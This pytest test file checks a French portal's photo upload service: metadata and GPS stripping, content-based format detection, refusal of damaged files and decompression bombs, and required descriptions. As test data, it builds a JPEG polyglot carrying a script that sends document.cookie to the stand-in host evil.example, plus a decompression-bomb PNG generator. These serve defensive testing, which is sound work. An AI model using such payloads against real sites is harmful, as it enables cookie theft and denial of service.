"""The photo rules without a database: what is stored is a new JPEG drawn from the pixels alone
(no EXIF, GPS, XMP, ICC or comment, nothing appended), the format is read from the content, and
bad files are refused with a French message."""

from __future__ import annotations

import io
import zlib

import pytest
from PIL import ExifTags, Image, ImageCms

from assmat.core.errors import Invalid
from assmat.core.i18n import current_locale
from assmat.portal.photos.service import MAX_PIXELS, MAX_SIDE, THUMBNAIL_SIDE, clean_description, reencode

GPS_LATITUDE = (43.0, 38.0, 47.0)  # Auch


@pytest.fixture(autouse=True)
def french():
    token = current_locale.set("fr")
    yield
    current_locale.reset(token)


def camera_jpeg(size=(2400, 1800), orientation: int | None = None) -> bytes:
    """A phone's JPEG: EXIF with the GPS position and the camera, an ICC profile, XMP and a comment."""
    image = Image.new("RGB", size, (200, 120, 40))
    image.paste((20, 90, 160), (0, 0, size[0] // 2, size[1] // 3))  # so orientation shows
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TelephoneMarque"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 35.0, 10.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, icc_profile=icc, comment=b"chez Anne, 12 rue des Lilas",
               xmp=b"<x:xmpmeta><exif:GPSLatitude>43,38.78N</exif:GPSLatitude></x:xmpmeta>")
    return buffer.getvalue()


def encoded(image: Image.Image, kind: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def refusal(content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        reencode(content)
    return refused.value.field_errors["photo"]


def test_the_stored_photo_has_no_gps_nor_any_other_metadata():
    original = camera_jpeg()
    source = Image.open(io.BytesIO(original))
    assert dict(source.getexif().get_ifd(ExifTags.IFD.GPSInfo))[ExifTags.GPS.GPSLatitude] == GPS_LATITUDE  # it had them
    assert all(marker in original for marker in (b"Exif", b"ICC_PROFILE", b"xmpmeta", b"rue des Lilas"))

    result = reencode(original)
    for stored in (result.image, result.thumbnail):
        for marker in (b"Exif", b"ICC_PROFILE", b"xmpmeta", b"GPS", b"TelephoneMarque", b"rue des Lilas", b"http://ns.adobe"):
            assert marker not in stored, marker
        reopened = Image.open(io.BytesIO(stored))
        assert reopened.format == "JPEG" and reopened.mode == "RGB"
        assert not reopened.getexif() and "icc_profile" not in reopened.info and "comment" not in reopened.info
    assert (result.width, result.height) == (MAX_SIDE, 1200)
    assert max(result.thumbnail_width, result.thumbnail_height) == THUMBNAIL_SIDE


def test_a_photo_taken_sideways_is_stored_upright():
    result = reencode(camera_jpeg(size=(800, 600), orientation=6))  # rotate 90° to display
    assert (result.width, result.height) == (600, 800)
    assert b"Exif" not in result.image  # the orientation is in the pixels now, not in a tag


def test_the_format_is_read_from_the_content_never_the_name():
    png = encoded(Image.new("RGBA", (300, 200), (0, 128, 0, 128)), "PNG")  # whatever it is called: photo.jpg
    result = reencode(png)
    assert Image.open(io.BytesIO(result.image)).format == "JPEG" and (result.width, result.height) == (300, 200)
    webp = encoded(Image.new("RGB", (300, 200), (0, 0, 128)), "WEBP")
    assert reencode(webp).width == 300
    not_an_image = "Ce fichier n'est pas une photo dans un format accepté : envoyez une image JPEG, PNG ou WebP."
    assert refusal(b"<html><script>alert(1)</script></html>") == not_an_image  # a text file named photo.jpg
    assert refusal(encoded(Image.new("RGB", (30, 20)), "GIF")) == not_an_image  # a real image, not accepted
    assert refusal(encoded(Image.new("RGB", (30, 20)), "BMP")) == not_an_image
    assert refusal(b"") == not_an_image


def test_a_polyglot_keeps_nothing_but_its_pixels():
    """A valid JPEG with a page appended (what a browser sniffing the bytes could run): only a
    new JPEG of its pixels is stored."""
    payload = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
    polyglot = encoded(Image.new("RGB", (120, 80), (10, 10, 10)), "JPEG") + payload
    result = reencode(polyglot)
    assert b"<script" not in result.image and b"evil" not in result.image and b"<script" not in result.thumbnail
    assert result.image.endswith(b"\xff\xd9")  # the JPEG's end marker is the last thing stored


def test_a_damaged_or_truncated_file_is_refused():
    photo = camera_jpeg(size=(640, 480))
    damaged = "Cette photo n'a pas pu être lue (le fichier est abîmé ou incomplet) : rien n'a été enregistré."
    assert refusal(photo[: len(photo) // 2]) == damaged
    png = encoded(Image.new("RGB", (640, 480), (1, 2, 3)), "PNG")
    assert refusal(png[:200]) == damaged


def bomb_png(width: int, height: int) -> bytes:
    """A tiny PNG that would decode to width × height pixels: a decompression bomb."""
    import struct

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit grey
    rows = zlib.compress(b"\x00" * (1 + (width + 7) // 8) * 64, 9)  # only a few rows present: never decoded
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(10_000, 10_000), (60_000, 60_000)], ids=["over-our-limit", "over-pillows-limit"])
def test_a_decompression_bomb_is_refused_before_it_is_decoded(size):
    content = bomb_png(*size)
    assert len(content) < 10_000 and size[0] * size[1] > MAX_PIXELS
    assert refusal(content) == "Cette photo compte trop de pixels (50 millions au maximum) : réduisez sa taille et recommencez."


def test_the_text_alternative_is_required_and_bounded():
    assert clean_description(" Le  coin \n jeux ") == "Le coin jeux"
    for blank in ("", "   ", None, "\n\t"):
        with pytest.raises(Invalid) as refused:
            clean_description(blank)
        assert refused.value.field_errors["description"] == "Décrivez la photo pour les personnes qui ne la voient pas."
    with pytest.raises(Invalid) as refused:
        clean_description("x" * 251)
    assert refused.value.field_errors["description"] == "La description ne doit pas dépasser 250 caractères."
    assert clean_description("x" * 250) == "x" * 250
